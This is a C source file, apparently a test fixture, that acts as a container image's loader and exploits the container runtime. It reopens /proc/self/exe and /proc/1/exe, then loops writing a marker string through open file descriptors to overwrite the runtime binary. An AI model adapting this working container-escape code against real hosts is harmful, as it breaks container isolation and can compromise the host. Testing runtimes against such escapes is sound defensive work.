// An attack on the program that starts a container, without a C library: it is the image's loader.
//
// `RUN ["/proc/self/exe"]` makes the kernel load the program that the container's process is at that moment, and its
// loader from the image: this file. It keeps that program and the container's first one open, and executes another
// program. Then it tries to write to them until the kernel allows it, which is when no process runs them any more.
#include <asm/unistd.h>
#include <stddef.h>

#define READ_ONLY 0
#define WRITE_ONLY 1
#define LIFETIME_ROUNDS 3000

static long call(long number, long first, long second, long third) {
    long result;
    __asm__ volatile("syscall"
                     : "=a"(result)
                     : "a"(number), "D"(first), "S"(second), "d"(third)
                     : "rcx", "r11", "memory");
    return result;
}

static int equal(const char *left, const char *right) {
    while (*left && *left == *right) left++, right++;
    return *left == *right;
}

static void say(const char *path) {
    long file = call(__NR_open, (long)path, WRITE_ONLY | 0100 /* O_CREAT */, 0666);
    call(__NR_close, file, 0, 0);
}

static void pause_briefly(void) {
    long time[2] = {0, 10 * 1000 * 1000};
    call(__NR_nanosleep, (long)time, 0, 0);
}

// Writes through each open descriptor.
static void overwrite(void) {
    for (int number = 3; number < 100; number++) {
        char path[] = "/proc/self/fd/\0\0";
        char *end = path + 14;
        if (number > 9) *end++ = (char)('0' + number / 10);
        *end = (char)('0' + number % 10);
        long file = call(__NR_open, (long)path, WRITE_ONLY, 0);
        if (file < 0) continue;
        call(__NR_write, file, (long)"THAW ATTACKED", 13);
        call(__NR_close, file, 0, 0);
    }
}

__attribute__((used)) static void start(char **stack) {
    char **arguments = stack + 1;
    int count = (int)(long)stack[0];
    call(__NR_prctl, 1 /* PR_SET_PDEATHSIG */, 0, 0);
    if (count > 1 && equal(arguments[1], "loop")) {
        say("/out/looping");
        for (int round = 0; round < LIFETIME_ROUNDS; round++) overwrite(), pause_briefly();
        call(__NR_exit_group, 0, 0, 0);
    }
    call(__NR_open, (long)"/proc/self/exe", READ_ONLY, 0);
    call(__NR_open, (long)"/proc/1/exe", READ_ONLY, 0);
    char *words[] = {"/overwrite", "loop", KEY, NULL};
    call(__NR_execve, (long)words[0], (long)words, 0);
    call(__NR_exit_group, 70, 0, 0);
}

__asm__(".globl _start\n_start:\n\tmov %rsp, %rdi\n\tand $-16, %rsp\n\tcall start\n\thlt\n");
